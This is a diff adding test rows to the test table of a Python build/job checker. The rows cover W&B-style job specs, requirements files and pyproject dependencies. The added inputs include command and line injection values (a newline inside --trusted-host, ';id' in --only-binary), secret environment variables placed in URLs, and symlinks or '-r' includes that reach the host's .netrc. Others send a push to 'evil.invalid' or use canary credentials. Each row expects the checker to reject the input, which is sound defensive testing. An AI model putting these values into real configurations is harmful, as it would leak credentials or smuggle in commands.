@@ -152,6 +152,20 @@ def check_git(url: str) -> list[str]:
     return ["check", url, "--offline"]
 
 
+def spec_job(frozen: Callable[[Path, Path], None]) -> Callable[[Path], list[str]]:
+    """A W&B-style artifact job: the spec, its code and its run's package list beside it."""
+    def make(tmp: Path) -> list[str]:
+        spec_dir = tmp / "spec"
+        spec_dir.mkdir()
+        (spec_dir / "train.py").write_text("print('train')\n")
+        (spec_dir / "wandb-job.json").write_text(
+            '{"source_type": "artifact", "source": {"artifact": "x", "entrypoint": ["python", "train.py"]}, '
+            '"runtime": "3.11"}')
+        frozen(tmp, spec_dir / "requirements.frozen.txt")
+        return ["check", str(spec_dir / "wandb-job.json"), "--offline"]
+    return make
+
+
 ROWS: dict[str, Row] = {}
 
 # --- operator options asked for by the job -------------------------------------------------
@@ -185,7 +199,13 @@ _URL_ROWS = {
     "url-requirement-ftp": "six @ ftp://x.invalid/six-1.16.0-py2.py3-none-any.whl\n",
     "url-requirement-env": "six @ https://x.invalid/${GITHUB_TOKEN}/six.whl\n",
     "url-env-in-name-line": "six==${VERSION}\n",
+    "url-trusted-host-newline": "--trusted-host 'x.invalid\nevilpkg @ https://x.invalid/e.whl'\nsix\n",
+    "url-only-binary-semicolon": "--only-binary ':all:;id'\nsix\n",
 }
+ROWS["url-env-in-pyproject-dependency"] = Row(
+    lambda t: check(_job(t, None, **{"pyproject.toml": '[project]\nname = "j"\nversion = "1"\n'
+                                                        'dependencies = ["six @ https://x.invalid/${AWS_SECRET_ACCESS_KEY}/six.whl"]\n'})),
+    2, ("pyproject.toml", "variable reference"))
 for _id, _text in _URL_ROWS.items():
     ROWS[_id] = Row(req(_text), 2, ("requirements.txt",))
 
@@ -219,6 +239,16 @@ ROWS.update({
     "confine-entrypoint-script-out": Row(
         lambda t: check(_job(t, None, toml='python = "3.11"\nentrypoint = "python ../host-secret.txt"\n')), 2,
         ("script", "outside")),
+    "confine-spec-run-list-link-out": Row(spec_job(lambda t, p: os.symlink(t / "home" / ".netrc", p)), 2,
+                                          ("requirements.frozen.txt",)),
+    "confine-spec-run-list-include-out": Row(spec_job(lambda t, p: p.write_text("-r ../home/.netrc\n")), 2,
+                                             ("outside",)),
+    "operator-pyproject-shadowed-by-launchbuild-toml": Row(
+        lambda t: check(_job(t, None, **{"pyproject.toml": f'[tool.launchbuild]\nca-bundle = "{t}/host-secret.txt"\n'})),
+        2, ("'ca-bundle' is an operator option", "pyproject.toml")),
+    "operator-top-level-beside-table": Row(
+        lambda t: check(_job(t, None, toml=f'push = "evil.invalid/{CANARY}"\n[tool.launchbuild]\npython = "3.11"\n'
+                                           'entrypoint = "python train.py"\n')), 2, ("'push' is an operator option",)),
     "confine-git-link-out": Row(git_with_link("constraints.txt", "HOST/host-secret.txt", "-c constraints.txt\nsix\n"), 2,
                                 ("git checkout", "symlink")),
     "confine-git-link-home": Row(git_with_link("notes.txt", "HOST/home/.netrc", "six\n"), 2,
@@ -242,6 +272,10 @@ ROWS.update({
                                ("credentials",)),
     "cred-unknown-option-after": Row(req(f"--index-url https://ops:{CANARY}@x.invalid/simple extra\nsix\n"), 2,
                                      ("unexpected text",)),
+    "cred-query-token": Row(req(f"--extra-index-url https://x.invalid/simple?token={CANARY}\nsix\n"), 2,
+                            ("query string", "x.invalid")),
+    "cred-presigned-wheel": Row(req(f"six @ https://x.invalid/six-1.16.0-py2.py3-none-any.whl?X-Amz-Signature={CANARY}\n"),
+                                2, ("query string",)),
     "cred-offline-no-cache": Row(req(f"--extra-index-url https://ops:{CANARY}@x.invalid/simple\nsix==1.16.0\n"
                                      f"# {uuid.uuid4().hex}\n"), 3, ("--offline",)),
 })
